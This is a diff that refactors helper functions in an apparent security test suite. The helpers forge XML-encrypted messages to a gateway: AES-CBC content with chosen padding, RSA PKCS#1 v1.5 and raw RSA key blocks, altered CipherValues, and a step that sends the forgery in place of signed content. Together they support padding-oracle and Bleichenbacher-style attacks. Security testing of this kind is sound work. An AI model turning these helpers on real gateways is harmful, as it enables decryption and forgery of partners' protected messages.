@@ -37,14 +37,14 @@ AES_CBC: Final = f"{XENC}aes256-cbc"
 CONTENT: Final = b"<Declaration>" + b"0123456789abcdef" * 4 + b"</Declaration>"
 _BLOCK: Final = 16
 _XML: Final = "application/xml"
-_ID: Final = "sealed@suite.invalid"
+_PAYLOAD_ID: Final = "sealed@suite.invalid"
 
 
 def get_receiver(kit: AttackerKit) -> Certificate:
     """Return the certificate for which payloads of the gateway are encrypted; raise `NotOfferedError`."""
-    if kit.receiver is None:
+    if kit.encryption_certificate is None:
         raise NotOfferedError("the partner folder has no hub.encryption.cert.pem")
-    return kit.receiver
+    return kit.encryption_certificate
 
 
 def seal_xml(kit: AttackerKit, content: bytes = CONTENT, receiver: Certificate | None = None) -> bytes:
@@ -60,21 +60,21 @@ def seal_cms(kit: AttackerKit, content: bytes = CONTENT) -> bytes:
 
 
 def encrypt_cbc(key: bytes, content: bytes, pad: bytes | None = None) -> bytes:
-    """Return vector and content in AES-CBC; `pad` are the last octets of the plaintext, right or not."""
+    """Return vector and content in AES-CBC; `pad` is the padding at the end, valid or not."""
     count = _BLOCK - len(content) % _BLOCK
     padded = content + (bytes([count]) * count if pad is None else pad)
     vector = os.urandom(_BLOCK)
-    work = Cipher(AES(key), CBC(vector)).encryptor()
-    return vector + work.update(padded) + work.finalize()
+    encryptor = Cipher(AES(key), CBC(vector)).encryptor()
+    return vector + encryptor.update(padded) + encryptor.finalize()
 
 
-def encrypt_block_key(receiver: Certificate, key: bytes) -> bytes:
+def encrypt_with_rsa_15(receiver: Certificate, key: bytes) -> bytes:
     """Return a key encrypted by RSA 1.5."""
     return _get_rsa_key(receiver).encrypt(key, padding.PKCS1v15())
 
 
-def pad_key(receiver: Certificate, block: Callable[[int], bytes]) -> bytes:
-    """Return the RSA encryption of a padded block of our own, which `block` returns for its length."""
+def encrypt_padded_block(receiver: Certificate, block: Callable[[int], bytes]) -> bytes:
+    """Return the raw RSA encryption of the block that `block` makes for the length of the key in octets."""
     numbers = _get_rsa_key(receiver).public_numbers()
     size = (numbers.n.bit_length() + 7) // 8
     value = int.from_bytes(block(size)) % numbers.n
@@ -87,8 +87,8 @@ def _get_rsa_key(receiver: Certificate) -> rsa.RSAPublicKey:
     return receiver.public_key
 
 
-def write_old_document(
-    key: bytes, octets: bytes, transport: str = f"{XENC}rsa-1_5", cipher: str = AES_CBC, method: str = ""
+def write_encrypted_document(
+    key: bytes, ciphertext: bytes, transport: str = f"{XENC}rsa-1_5", cipher: str = AES_CBC, method: str = ""
 ) -> bytes:
     """Return an EncryptedData of an encrypted key and encrypted octets; `method` are its parameters."""
 
@@ -100,30 +100,30 @@ def write_old_document(
         f'<xenc:EncryptedData xmlns:xenc="{XENC}" xmlns:ds="{DS}" MimeType="{_XML}">'
         f'<xenc:EncryptionMethod Algorithm="{cipher}"/><ds:KeyInfo><xenc:EncryptedKey>'
         f'<xenc:EncryptionMethod Algorithm="{transport}">{method}</xenc:EncryptionMethod>{write_value(key)}'
-        f"</xenc:EncryptedKey></ds:KeyInfo>{write_value(octets)}</xenc:EncryptedData>"
+        f"</xenc:EncryptedKey></ds:KeyInfo>{write_value(ciphertext)}</xenc:EncryptedData>"
     ).encode()
 
 
-def change_value(document: bytes, which: int, change: Callable[[bytes], bytes]) -> bytes:
+def change_cipher_value(document: bytes, value_index: int, change: Callable[[bytes], bytes]) -> bytes:
     """Return a document with one CipherValue changed: 0 is the first key, -1 the content."""
     values = re.findall(rb"<xenc:CipherValue>([^<]*)<", document)
-    octets = change(base64.b64decode(values[which]))
-    return document.replace(values[which], base64.b64encode(octets))
+    octets = change(base64.b64decode(values[value_index]))
+    return document.replace(values[value_index], base64.b64encode(octets))
 
 
 def send_sealed(
-    make: DocumentMaker, action: str = "Seal", media_type: str = _XML, content: bytes = CONTENT
+    make_document: DocumentMaker, action: str = "Seal", media_type: str = _XML, content: bytes = CONTENT
 ) -> Callable[[AttackerKit], HttpRequest]:
-    """Return the step that sends the document of `make` in the place of `content`, which member A signed."""
+    """Return the step that sends the document of `make_document` in place of `content`, which A signed."""
 
     def make_request(kit: AttackerKit) -> HttpRequest:
-        document = make(kit)
+        document = make_document(kit)
 
         def exchange_part(parts: list[MimePart]) -> list[MimePart]:
             headers = {"content-type": media_type}
             return [MimePart(headers, part.content_id, media_type, document) for part in parts]
 
-        unit = kit.make_unit(action=action, payloads=(Payload(_ID, _XML, content),))
+        unit = kit.make_unit(action=action, payloads=(Payload(_PAYLOAD_ID, _XML, content),))
         return kit.build_message(unit, parts=exchange_part)
 
     return make_request
